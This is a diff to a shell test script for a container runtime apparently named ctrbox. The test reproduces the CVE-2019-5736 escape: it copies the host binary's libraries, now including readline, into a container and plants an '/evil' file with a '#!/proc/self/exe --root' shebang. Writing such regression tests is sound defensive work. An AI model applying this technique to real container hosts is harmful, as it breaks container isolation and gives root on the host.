@@ -390,10 +390,13 @@ exit_is() { # exit_is N: the command line in the pane ended with status N
 	# The CVE-2019-5736 exploit: the kernel resolves the interpreter /proc/self/exe while the
 	# joining process is still ctrbox. Give the container ctrbox's loader and libraries so
 	# that ctrbox can run in there (on a terminal, with --root, it is an interactive shell
-	# that stays), then look at what it runs from.
+	# that stays; with readline, which the shell opens on first use), then look at what it
+	# runs from.
 	start web
-	local libs pid
-	libs=$(ldd "$CTRBOX_BIN" | grep -o '/[^ ]*' | sort -u)
+	local libs pid rl
+	rl=$(ldconfig -p | grep -o '/[^ ]*/libreadline\.so\.[0-9]*$' | head -1)
+	[ -n "$rl" ] || fail "no libreadline in the loader's cache"
+	libs=$({ ldd "$CTRBOX_BIN"; echo "$rl"; ldd "$rl"; } | grep -o '/[^ ]*' | sort -u)
 	run bash -c "tar -chf - $(echo $libs) 2>/dev/null | '$CTRBOX_BIN' exec -i web tar -xf - -C /"
 	assert_success
 	ctrbox exec -i web sh -c 'cat >/evil && chmod +x /evil' <<<'#!/proc/self/exe --root'
